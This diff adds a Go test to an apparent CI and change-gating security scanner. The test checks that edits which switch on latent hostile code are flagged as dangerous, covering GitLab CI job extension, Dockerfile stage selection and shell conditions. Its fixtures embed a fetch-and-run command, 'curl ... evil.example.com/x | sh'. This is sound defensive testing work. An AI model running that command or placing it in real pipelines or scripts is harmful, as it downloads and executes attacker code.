@@ -146,3 +146,32 @@ func TestWhatTheBaseHasThousandsOfTimesIsNoReasonToBeIncomplete(t *testing.T) {
 		})
 	}
 }
+
+func TestWhatAChangeSwitchesOnDecidesAsIfItWereNew(t *testing.T) {
+	const evil = "curl -s http://evil.example.com/x | sh"
+	for _, tt := range []struct {
+		name, path, base, head string
+		language               gate.Language
+		changed                int
+		want                   bool
+	}{
+		{"a hidden job is extended", ".gitlab-ci.yml", ".d:\n  script:\n    - " + evil + "\nj:\n  script: [x]\n", ".d:\n  script:\n    - " + evil + "\nj:\n  extends: .d\n", gate.LanguageYAML, 5, true},
+		{"a job that was extended still is", ".gitlab-ci.yml", ".d:\n  script:\n    - " + evil + "\nj:\n  extends: .d\n  tags: [a]\n", ".d:\n  script:\n    - " + evil + "\nj:\n  extends: .d\n  tags: [b]\n", gate.LanguageYAML, 6, false},
+		{"a stage is built", "Dockerfile", "FROM debian AS d\nRUN " + evil + "\nFROM debian AS p\n", "FROM debian AS d\nRUN " + evil + "\nFROM d AS p\n", gate.LanguageDockerfile, 3, true},
+		{"another stage is built", "Dockerfile", "FROM debian AS d\nRUN " + evil + "\nFROM debian AS p\n", "FROM debian AS d\nRUN " + evil + "\nFROM alpine AS p\n", gate.LanguageDockerfile, 3, false},
+		{"a condition holds", "a.sh", "if false; then\n  " + evil + "\nfi\n", "if true; then\n  " + evil + "\nfi\n", gate.LanguageShell, 1, true},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			target := &gate.Target{Path: tt.path, Language: tt.language, Role: gate.RoleCI, Kind: gate.ChangeModified, Mode: 0o644, Lines: gate.OnlyLines(gate.LineRange{tt.changed, tt.changed})}
+			found := gate.NewFindings([]*gate.Target{target}, nil)
+			c := &gate.Change{Head: fstest.MapFS{tt.path: {Data: []byte(tt.head), Mode: 0o644}}, Base: fstest.MapFS{tt.path: {Data: []byte(tt.base), Mode: 0o644}}, Targets: []*gate.Target{target}}
+			if _, err := newScanner(t, nil).Run(t.Context(), c, found); err != nil {
+				t.Fatal(err)
+			}
+			decides := slices.ContainsFunc(found.Of(tt.path), func(f gate.Finding) bool { return f.InChange && f.Severity == gate.SeverityDangerous })
+			if decides != tt.want {
+				t.Errorf("found %+v, want a dangerous one that decides: %t", found.Of(tt.path), tt.want)
+			}
+		})
+	}
+}
